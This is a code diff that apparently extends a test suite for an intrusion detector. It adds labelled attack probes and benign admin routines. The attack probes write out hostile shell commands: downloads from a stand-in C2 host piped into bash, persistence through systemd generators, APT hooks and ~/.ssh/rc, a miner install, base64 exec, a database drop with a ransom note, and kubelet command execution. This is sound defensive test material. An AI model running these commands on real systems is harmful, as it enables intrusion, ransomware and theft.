@@ -266,9 +266,35 @@ ATTACKS = [
         "telnet 127.0.0.1 4444", "/bin/bash", "telnet 127.0.0.1 4445")),
     Probe("files encrypted by find -exec", "admin", True, lambda s: s.script(
         "find /srv -type f -exec openssl enc -aes-256-cbc -pass pass:k -in {} -out {}.locked \\;")),
+    Probe("download run through process substitution", "admin", True,
+          lambda s: s.run(f"curl -fsSL http://{LOCAL_C2}/i.sh", "bash /dev/fd/63")),
+    Probe("systemd generator dropped", "admin", True, lambda s: s.script(
+        "printf '#!/bin/sh\\n/usr/local/lib/.n &\\n' > /etc/systemd/system-generators/n-generator")),
+    Probe("APT hook that fetches a script", "admin", True, lambda s: s.script(
+        f"echo 'APT::Update::Pre-Invoke {{\\\"curl -s http://{LOCAL_C2}/u | sh\\\"}};' > /etc/apt/apt.conf.d/00u")),
+    Probe("~/.ssh/rc starts a hidden program", "admin", True, lambda s: s.script(
+        "echo 'nohup /var/lib/.cache/helper >/dev/null 2>&1 &' >> /root/.ssh/rc")),
+    Probe("miner unpacked into a dot-directory of /var/lib", "admin", True, _steps(
+        lambda s: s.run("pkill -f kinsing"),
+        lambda s: s.run(f"curl -s http://{LOCAL_C2}/sd.tgz", "tar xz -C /var/lib/.sd"),
+        lambda s: s.run("/var/lib/.sd/systemd-journal -c /var/lib/.sd/config.json -B"))),
+    Probe("CI job runs what it decodes", "ci", True, lambda s: s.run(
+        "python3 -c \"import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))\""),
+        uid=1001, cwd="/srv/work/ci"),
+    Probe("database dropped, ransom note left", "admin", True, _steps(
+        lambda s: s.run("mysql -u root -e 'SHOW DATABASES'"),
+        lambda s: s.run("mysql -u root -e 'DROP DATABASE shop; CREATE DATABASE README_TO_RECOVER'"))),
+    Probe("kubelet asked to run a command", "admin", True, _steps(
+        lambda s: s.run("curl -sk https://10.0.0.21:10250/pods"),
+        lambda s: s.run("curl -sk -XPOST https://10.0.0.21:10250/run/kube-system/etcd/etcd -d cmd=id"))),
 ]
 
 ROUTINES = [
+    Probe("TLS secret created and listed", "admin", False, _steps(
+        lambda s: s.run("kubectl create secret tls web-tls --cert=fullchain.pem --key=privkey.pem -n app"),
+        lambda s: s.run("kubectl get secret web-tls -n app")), cwd="/root/certs"),
+    Probe("database backup copied to S3", "admin", False, lambda s: s.run(
+        "aws s3 cp /var/backups/app.dump s3://corp-backups/db/app.dump"), cwd="/root"),
     Probe("kubectl installed", "admin", False, _steps(
         lambda s: s.run("curl -LO https://dl.k8s.io/release/v1.28.0/bin/linux/amd64/kubectl"),
         lambda s: s.run("chmod +x kubectl"), lambda s: s.run("sudo mv kubectl /usr/local/bin/"),
